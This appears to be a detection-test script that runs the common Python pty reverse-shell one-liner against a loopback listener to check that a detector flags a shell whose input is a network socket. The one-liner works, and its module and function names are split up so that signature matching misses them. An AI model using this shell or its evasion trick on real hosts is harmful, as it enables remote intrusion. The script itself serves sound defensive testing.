# technique: T1059.004 T1059.006 T1071.001
"""Unix shell over a reverse connection, the pty one-liner (T1059.004, T1059.006).

The most copied Python reverse shell: connect out, os.dup2 the socket onto
fds 0/1/2, then pty.spawn("/bin/sh"). Here it runs in a child started with
`sys.executable -c` (as a dropper would), and the module and function names
are looked up through __import__ and getattr so no literal `pty.spawn`
appears. The loopback listener sends `id; exit`.

A good detector raises a critical alert: a shell is started whose standard
input is a network socket.
"""
import socket, subprocess, sys, threading

lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
port = lsn.getsockname()[1]
def serve():
    try:
        c, _ = lsn.accept(); c.settimeout(4)
        c.sendall(b"id; exit\n")
        while c.recv(4096): pass
    except Exception: pass
t = threading.Thread(target=serve, daemon=True); t.start()
one_liner = (
    "s=__import__('socket').socket();s.connect(('127.0.0.1',%d));"
    "o=__import__('o'+'s');[getattr(o,'du'+'p2')(s.fileno(),f) for f in (0,1,2)];"
    "getattr(__import__('p'+'ty'),'sp'+'awn')('/bin/sh')" % port)
try:
    subprocess.run([sys.executable, "-c", one_liner], timeout=8,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
t.join(2)
